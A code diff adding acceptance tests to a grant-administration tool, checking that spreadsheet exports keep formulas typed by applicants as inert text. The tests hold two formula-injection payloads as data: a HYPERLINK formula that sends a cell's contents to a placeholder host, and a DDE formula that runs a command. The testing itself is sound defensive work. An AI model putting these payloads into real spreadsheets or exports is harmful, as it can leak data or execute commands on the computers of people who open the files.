@@ -5,6 +5,7 @@ received text kept as text in every file the tool writes for people to open."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import zipfile
@@ -17,8 +18,11 @@ from click.testing import CliRunner
 
 from batch.cli import main
 from tests.acceptance.documents.conftest import EXAMPLES, office_decisions
+from tests.acceptance.documents.test_scdl import validate
 from tests.acceptance.documents.test_workbook_source import decided_workbook
-from xlplugin.rules import Allocation
+from xlplugin.documents import DocumentSettings, write_scdl_csv
+from xlplugin.documents.record import DecisionRecord
+from xlplugin.rules import Allocation, Reglement
 from xlplugin.workbook import layout as L
 
 DEMO = EXAMPLES.parent / "parametres-documents-demo.json"
@@ -28,8 +32,17 @@ RECEIVED = EXAMPLES.parent / "recus"
 def documents(workbook: Path, output: Path, *extra: str) -> tuple[int, str, str]:
     result = CliRunner().invoke(
         main,
-        ["documents", "--workbook", str(workbook), "--sortie", str(output), "--sans-pdf", "--parametres", str(DEMO)]
-        + list(extra),
+        [
+            "documents",
+            "--workbook",
+            str(workbook),
+            "--sortie",
+            str(output),
+            "--sans-pdf",
+            "--parametres",
+            str(DEMO),
+            *extra,
+        ],
     )
     assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
     return result.exit_code, result.stdout, result.stderr
@@ -84,3 +97,43 @@ def test_a_dossier_classee_sans_suite_is_said_so_never_asked_for_a_decision(
     assert code == 1
     assert "remplissez" not in out + err
     assert f"dossier(s) {number}" in out and "classés sans suite" in err
+
+
+HYPERLINK = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def hostile_dossier(folder: Path) -> Path:
+    """An example dossier whose porteur and project title are formulas, as an applicant can type them."""
+    document = json.loads((EXAMPLES / "dossier-21000101.json").read_text(encoding="utf-8"))
+    document["porteur"]["nom"] = HYPERLINK
+    document["projet"]["intitule"] = DDE
+    path = folder / "dossier-21000101.json"
+    path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
+    return path
+
+
+def test_the_committee_list_keeps_an_applicants_formula_as_text(tmp_path: Path) -> None:
+    files = [str(hostile_dossier(tmp_path))] + [
+        str(p) for p in sorted(EXAMPLES.glob("*.json")) if p.name != "dossier-21000101.json"
+    ]
+    result = CliRunner().invoke(main, ["comite", *files, "--sortie", str(tmp_path / "comite"), "--sans-pdf"])
+    assert result.exit_code == 0, result.output
+    written = tmp_path / "comite" / "etat-recapitulatif.xlsx"
+    with zipfile.ZipFile(written) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no formula at all in the list: every figure is a value
+    cells = {c.value: c for row in openpyxl.load_workbook(written).active.iter_rows() for c in row}
+    for text in (HYPERLINK, DDE):
+        assert text in cells and cells[text].data_type == "s" and cells[text].quotePrefix
+
+
+def test_the_essential_data_keep_a_formula_as_text_and_still_validate(
+    records: list[DecisionRecord], settings: DocumentSettings, reglement_ain: Reglement, tmp_path: Path
+) -> None:
+    record = next(r for r in records if r.granted)
+    hostile = dataclasses.replace(record, beneficiary_name=HYPERLINK, order_number="=1+1")
+    path = write_scdl_csv([hostile], settings, reglement_ain, tmp_path / "subventions.csv")
+    row = next(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    assert row["nomBeneficiaire"] == "'" + HYPERLINK and row["referenceDecision"] == "'=1+1"
+    assert validate(path) == []
